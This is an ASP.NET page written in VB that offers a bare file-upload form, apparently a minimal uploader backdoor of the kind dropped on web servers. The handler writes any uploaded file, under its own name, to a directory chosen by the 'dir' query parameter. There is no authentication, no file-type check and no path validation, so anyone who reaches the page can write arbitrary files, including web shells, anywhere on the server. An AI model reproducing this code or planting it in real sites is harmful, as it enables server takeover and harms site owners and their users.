<%@ Page Language="VB" %>
<script runat="server">
Sub Upload_Click(sender As Object, e As EventArgs)
    If Up.HasFile Then
        Up.SaveAs(Server.MapPath(Request.QueryString("dir")) & "\" & Up.FileName)
        Msg.Text = "saved"
    End If
End Sub
</script>
<html><body><form runat="server">
<asp:FileUpload ID="Up" runat="server" /><asp:Button runat="server" Text="Upload" OnClick="Upload_Click" />
<asp:Label ID="Msg" runat="server" />
</form></body></html>
